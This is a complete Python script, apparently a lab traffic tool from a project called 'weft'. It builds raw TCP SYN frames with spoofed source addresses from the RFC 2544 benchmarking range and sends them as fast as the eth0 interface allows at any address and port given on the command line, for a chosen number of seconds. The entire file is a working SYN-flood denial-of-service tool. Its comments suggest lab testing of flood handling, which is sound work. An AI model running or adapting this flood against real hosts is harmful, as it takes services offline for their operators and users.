#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright The weft authors
"""A flood of TCP SYNs from addresses that are nobody's, as fast as this host's eth0 takes them.

syn_flood.py SOURCE_MAC DESTINATION_MAC ADDRESS PORT SECONDS: prints how many it has sent.
"""
import random
import socket
import struct
import sys
import time

# RFC 2544: addresses for tests, which no router of a lab has a way to.
SOURCES = struct.unpack("!I", socket.inet_aton("198.18.0.0"))[0], 17
SYN = 0x5002  # data offset and flags
FRAMES = 20_000


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def frame(macs, destination, port, source):
    def tcp(check):
        return struct.pack("!HHIIHHHH", source_port, port, sequence, 0, SYN, 64240, check, 0)

    def ip(check):
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, check, source, destination)

    source_port, sequence = random.randrange(1024, 65536), random.getrandbits(32)
    check = checksum(struct.pack("!4s4sBBH", source, destination, 0, socket.IPPROTO_TCP, 20) + tcp(0))
    return macs + struct.pack("!H", 0x0800) + ip(checksum(ip(0))) + tcp(check)


def main():
    source_mac, destination_mac, address, port, seconds = sys.argv[1:]
    macs = bytes.fromhex(destination_mac.replace(":", "") + source_mac.replace(":", ""))
    base, bits = SOURCES
    frames = [frame(macs, socket.inet_aton(address), int(port), struct.pack("!I", base + random.getrandbits(bits)))
              for _ in range(FRAMES)]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind(("eth0", 0))
    sent, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for each in frames[sent % FRAMES:sent % FRAMES + 100]:
            try:
                out.send(each)
            except OSError:  # the queue is full
                time.sleep(0.001)
        sent += 100
    print(sent)


if __name__ == "__main__":
    main()
